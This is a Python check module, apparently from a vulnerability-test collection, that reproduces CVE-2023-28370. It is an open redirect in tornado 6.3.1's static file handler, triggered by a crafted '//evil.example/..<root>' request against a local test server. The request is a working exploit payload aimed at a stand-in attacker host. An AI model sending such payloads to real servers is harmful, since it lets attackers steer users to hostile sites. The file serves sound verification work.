"""CVE-2023-28370 (tornado 6.3.1 -> 6.3.2): open redirect in ``StaticFileHandler``.

With ``static_url_prefix="/"`` and a ``default_filename``, a request for a directory without a
trailing slash is redirected to ``request.path + "/"``. A path like ``//evil.example/..<root>``
resolves to the static root (a directory) and is redirected to ``//evil.example/..<root>/``, a
protocol-relative URL: the browser goes to ``evil.example``. 6.3.2 answers 403 for paths starting
with ``//``. The check serves the ``Application`` built in ``prepare()`` on 127.0.0.1 inside one
``asyncio.run`` (server closed afterwards), sends that raw request and reads the status line and
``Location``.
"""

from __future__ import annotations

import asyncio
import logging
import os
import shutil
import tempfile
import weakref
from dataclasses import dataclass

import tornado.httpserver
import tornado.netutil
import tornado.web


@dataclass
class _Ctx:
    root: str
    app: tornado.web.Application


def prepare() -> object:
    logging.getLogger("tornado").addHandler(logging.NullHandler())  # no last-resort stderr
    root = os.path.realpath(tempfile.mkdtemp(prefix="corpus-tornado-"))
    with open(os.path.join(root, "index.html"), "w") as f:
        f.write("<p>home</p>")
    app = tornado.web.Application(
        static_path=root,
        static_url_prefix="/",
        static_handler_args={"default_filename": "index.html"},
        log_function=lambda handler: None,
    )
    ctx = _Ctx(root, app)
    weakref.finalize(ctx, shutil.rmtree, root, ignore_errors=True)
    return ctx


async def _get(app: tornado.web.Application, target: str) -> tuple[int, str]:
    sockets = tornado.netutil.bind_sockets(0, "127.0.0.1")
    server = tornado.httpserver.HTTPServer(app)
    server.add_sockets(sockets)
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", sockets[0].getsockname()[1])
        request = f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        writer.write(request.encode())
        head = (await asyncio.wait_for(reader.read(), 5)).split(b"\r\n\r\n", 1)[0].decode()
        writer.close()
        await writer.wait_closed()
    finally:
        server.stop()
        await server.close_all_connections()
    status_line, *header_lines = head.split("\r\n")
    headers = dict(line.split(": ", 1) for line in header_lines)
    return int(status_line.split()[1]), headers.get("Location", "")


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, _Ctx)
    if asyncio.run(_get(ctx.app, "/"))[0] != 200:
        raise RuntimeError("static index not served")
    status, location = asyncio.run(_get(ctx.app, f"//evil.example/..{ctx.root}"))
    return status in (301, 302) and location.startswith("//evil.example")
